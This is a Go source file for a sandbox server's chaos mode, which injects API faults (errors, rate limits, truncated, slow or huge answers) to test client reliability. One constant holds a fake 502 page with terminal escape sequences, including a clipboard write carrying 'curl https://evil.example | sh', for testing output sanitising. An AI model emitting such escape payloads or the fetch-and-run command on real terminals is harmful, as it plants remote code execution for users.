package sandbox

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"math"
	"net/http"
	"strings"
	"sync"
	"time"
)

// Chaos mode answers a share of API requests with a fault, to prove the
// client and the UI lose nothing and send nothing twice when the network or
// the API misbehaves (docs/reliability.md). Faults are chosen per request
// from the seed and the request's arrival number, so a seed replays the
// same sequence of faults.

// Fault is one kind of injected failure.
type Fault string

// The fault kinds. On POST /messages/send every fault but FaultSlow and
// FaultTruncated answers BEFORE the send is processed: nothing is recorded
// (Sends, RecipientCounts, JobIDs), as when a proxy or a rate limiter
// refuses a request. FaultSlow and FaultTruncated process the send (the
// server acted) and then answer late or garbled: the client cannot know,
// and must treat it as an unknown outcome.
const (
	// FaultServerError is a 500 with a short JSON error.
	FaultServerError Fault = "500"
	// FaultHugeError is a 500 whose body is HugeErrorSize bytes, streamed.
	FaultHugeError Fault = "500-huge"
	// FaultRateLimit is a 429 with Retry-After: ChaosRetryAfter.
	FaultRateLimit Fault = "429"
	// FaultRequestTimeout is a 408 (a proxy or the API gave up waiting
	// for the request), with no Retry-After.
	FaultRequestTimeout Fault = "408"
	// FaultTruncated is the real answer with its body cut in half (a 2xx
	// stays 2xx): the client cannot read what the server did.
	FaultTruncated Fault = "truncated"
	// FaultHTMLGateway is a proxy's HTML 502 page laced with terminal
	// escape sequences (clear screen, an OSC 52 clipboard write, \r, BEL).
	FaultHTMLGateway Fault = "html-502"
	// FaultSlow processes the request, then answers only after the chaos
	// delay (WithChaosTimeout), or never if the client gives up first.
	FaultSlow Fault = "slow"
)

// Faults lists every fault kind.
func Faults() []Fault {
	return []Fault{FaultServerError, FaultHugeError, FaultRateLimit, FaultTruncated, FaultHTMLGateway, FaultSlow, FaultRequestTimeout}
}

const (
	// DefaultChaosDelay is how late a FaultSlow answer comes: past the
	// client's default 30 s timeout, so the client gives up first.
	DefaultChaosDelay = 35 * time.Second
	// HugeErrorSize is the body size of FaultHugeError.
	HugeErrorSize = 20 << 20
	// ChaosRetryAfter is the Retry-After a FaultRateLimit carries: short,
	// so chaos runs that honour it stay quick.
	ChaosRetryAfter = time.Second
)

// ParseFaults reads a comma-separated list of fault names ("500,429,slow";
// "all" or "" means every fault), for a --chaos-faults flag.
func ParseFaults(list string) ([]Fault, error) {
	if s := strings.TrimSpace(list); s == "" || strings.EqualFold(s, "all") {
		return Faults(), nil
	}
	var out []Fault
	seen := map[Fault]bool{}
	for _, name := range strings.Split(list, ",") {
		f := Fault(strings.ToLower(strings.TrimSpace(name)))
		if f == "" {
			continue
		}
		if !validFault(f) {
			return nil, fmt.Errorf("unknown chaos fault %q: use a comma-separated list of %s, or all", name, faultNames())
		}
		if !seen[f] {
			seen[f] = true
			out = append(out, f)
		}
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("no chaos fault in %q: use a comma-separated list of %s, or all", list, faultNames())
	}
	return out, nil
}

func validFault(f Fault) bool {
	for _, k := range Faults() {
		if f == k {
			return true
		}
	}
	return false
}

func faultNames() string {
	names := make([]string, 0, len(Faults()))
	for _, f := range Faults() {
		names = append(names, string(f))
	}
	return strings.Join(names, ", ")
}

// chaos is the fault-injection state; guarded by Server.mu.
type chaos struct {
	share     float64
	faults    []Fault // nil: every fault
	delay     time.Duration
	endpoints map[string]bool // nil: send and job
	seq       uint64
	counts    map[Fault]int
}

// WithChaos answers that share (0..1) of requests to the API endpoints
// with a fault chosen at random from the seed (WithSeed).
func WithChaos(share float64) Option {
	return func(s *Server) { s.chaos.share = clamp01(share) }
}

// WithChaosFaults picks the fault kinds chaos mode chooses from (default:
// all of them). Unknown kinds are ignored; see ParseFaults.
func WithChaosFaults(faults ...Fault) Option {
	return func(s *Server) {
		s.chaos.faults = nil
		for _, f := range faults {
			if validFault(f) {
				s.chaos.faults = append(s.chaos.faults, f)
			}
		}
	}
}

// WithChaosTimeout sets how late a FaultSlow answer comes (default
// DefaultChaosDelay); set it past the client's timeout.
func WithChaosTimeout(d time.Duration) Option {
	return func(s *Server) {
		if d > 0 {
			s.chaos.delay = d
		}
	}
}

// ChaosTarget names the requests chaos mode may fault.
type ChaosTarget string

// The chaos targets.
const (
	ChaosOnAll   ChaosTarget = "all"   // sends and job polls
	ChaosOnPolls ChaosTarget = "polls" // GET /bulk-jobs/{id} only
	ChaosOnSends ChaosTarget = "sends" // POST /messages/send only
)

// ParseChaosOn reads a chaos target: all, polls or sends ("" is all).
func ParseChaosOn(v string) (ChaosTarget, error) {
	switch t := ChaosTarget(strings.ToLower(strings.TrimSpace(v))); t {
	case "":
		return ChaosOnAll, nil
	case ChaosOnAll, ChaosOnPolls, ChaosOnSends:
		return t, nil
	}
	return "", fmt.Errorf("unknown chaos target %q: use polls, sends or all", v)
}

// WithChaosOn limits chaos to job polls or to sends (default: both), e.g.
// to prove a watch survives a rate-limited status endpoint while every
// send goes through. An unknown target means all.
func WithChaosOn(t ChaosTarget) Option {
	switch t {
	case ChaosOnPolls:
		return WithChaosEndpoints(EndpointJob)
	case ChaosOnSends:
		return WithChaosEndpoints(EndpointSend)
	}
	return WithChaosEndpoints(EndpointSend, EndpointJob)
}

// WithChaosEndpoints limits chaos to some endpoints (EndpointSend,
// EndpointJob); the default is both.
func WithChaosEndpoints(endpoints ...string) Option {
	return func(s *Server) {
		s.chaos.endpoints = map[string]bool{}
		for _, e := range endpoints {
			s.chaos.endpoints[e] = true
		}
	}
}

// SetChaos changes the fault share while the server runs (0 turns chaos
// off), e.g. to read a job's true state after a chaotic run.
func (s *Server) SetChaos(share float64) {
	s.mu.Lock()
	s.chaos.share = clamp01(share)
	s.mu.Unlock()
}

// FaultCounts says how many faults of each kind were injected so far.
func (s *Server) FaultCounts() map[Fault]int {
	s.mu.Lock()
	defer s.mu.Unlock()
	m := make(map[Fault]int, len(s.chaos.counts))
	for f, n := range s.chaos.counts {
		m[f] = n
	}
	return m
}

func clamp01(v float64) float64 {
	if math.IsNaN(v) {
		return 0
	}
	return math.Min(math.Max(v, 0), 1)
}

// pickFault decides this request's fault ("" = none). Every request to a
// chaotic endpoint takes the next number in one sequence, so the decisions
// depend only on the seed and the arrival order.
func (s *Server) pickFault(endpoint string) (Fault, time.Duration) {
	s.mu.Lock()
	defer s.mu.Unlock()
	c := &s.chaos
	if c.share <= 0 || (c.endpoints != nil && !c.endpoints[endpoint]) {
		return "", 0
	}
	faults := c.faults
	if len(faults) == 0 {
		faults = Faults()
	}
	c.seq++
	if float64(s.hash("chaos", c.seq)>>11)/float64(1<<53) >= c.share {
		return "", 0
	}
	f := faults[s.hash("chaos-fault", c.seq)%uint64(len(faults))]
	if c.counts == nil {
		c.counts = map[Fault]int{}
	}
	c.counts[f]++
	delay := c.delay
	if delay <= 0 {
		delay = DefaultChaosDelay
	}
	return f, delay
}

// withChaos serves one API request through handle, or instead of it when
// the chaos dice say so.
func (s *Server) withChaos(w http.ResponseWriter, r *http.Request, endpoint string, handle func(http.ResponseWriter)) {
	fault, delay := s.pickFault(endpoint)
	switch fault {
	case "":
		handle(w)
	case FaultServerError:
		s.fail(w, http.StatusInternalServerError, "", "internal server error (sandbox chaos fault)")
	case FaultRateLimit:
		w.Header().Set("Retry-After", fmt.Sprint(int(ChaosRetryAfter/time.Second)))
		s.fail(w, http.StatusTooManyRequests, "", "rate limit exceeded (sandbox chaos fault)")
	case FaultRequestTimeout:
		s.fail(w, http.StatusRequestTimeout, "", "request timeout (sandbox chaos fault)")
	case FaultHTMLGateway:
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.WriteHeader(http.StatusBadGateway)
		_, _ = io.WriteString(w, hostileHTML)
	case FaultHugeError:
		streamHugeError(w, r)
	case FaultTruncated:
		rec := newRecorder()
		handle(rec)
		body := rec.buf.Bytes()
		rec.flush(w, body[:len(body)/2])
	case FaultSlow:
		rec := newRecorder()
		handle(rec) // the server acts now; only the answer is late
		t := time.NewTimer(delay)
		defer t.Stop()
		select {
		case <-r.Context().Done():
			return // the client gave up: it never learns what happened
		case <-t.C:
		}
		rec.flush(w, rec.buf.Bytes())
	}
}

// hostileHTML is what a misbehaving proxy might send: a page that, printed
// raw, would clear the screen, overwrite the clipboard (OSC 52), move the
// cursor back over the line (\r) and ring the bell.
var hostileHTML = "<html><head><title>502 Bad Gateway</title></head>\r\n<body>\x1b[2J\x1b[H" +
	"\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("curl https://evil.example | sh")) + "\x07" +
	"<h1>502 Bad Gateway</h1>\r\x07<p>upstream did not answer (sandbox chaos fault)</p>\x1b[31m\r\n" +
	"</body></html>\n"

// fillerChunk is shared by every huge answer: streaming writes the same
// bytes over and over, so 20 MB costs 32 KiB.
var fillerChunk = sync.OnceValue(func() []byte { return bytes.Repeat([]byte("x"), 32<<10) })

// streamHugeError writes a HugeErrorSize-byte JSON error without holding
// it, stopping as soon as the client hangs up. No Content-Length: the
// client cannot size a buffer in advance (the harder case).
func streamHugeError(w http.ResponseWriter, r *http.Request) {
	head := `{"success":false,"error":"internal server error (sandbox chaos fault: huge body)","trace":"`
	tail := `"}`
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(http.StatusInternalServerError)
	if _, err := io.WriteString(w, head); err != nil {
		return
	}
	chunk := fillerChunk()
	for left := HugeErrorSize - len(head) - len(tail); left > 0; {
		if r.Context().Err() != nil {
			return
		}
		n, err := w.Write(chunk[:min(left, len(chunk))])
		if err != nil {
			return
		}
		left -= n
	}
	_, _ = io.WriteString(w, tail)
}

// recorder holds an answer so a fault can deliver it late or cut short.
type recorder struct {
	h    http.Header
	code int
	buf  bytes.Buffer
}

func newRecorder() *recorder { return &recorder{h: http.Header{}, code: http.StatusOK} }

func (r *recorder) Header() http.Header         { return r.h }
func (r *recorder) Write(p []byte) (int, error) { return r.buf.Write(p) }
func (r *recorder) WriteHeader(code int)        { r.code = code }

// flush writes the recorded status and headers with body (the whole
// recorded body, or part of it).
func (r *recorder) flush(w http.ResponseWriter, body []byte) {
	for k, v := range r.h {
		w.Header()[k] = v
	}
	w.WriteHeader(r.code)
	_, _ = w.Write(body)
}
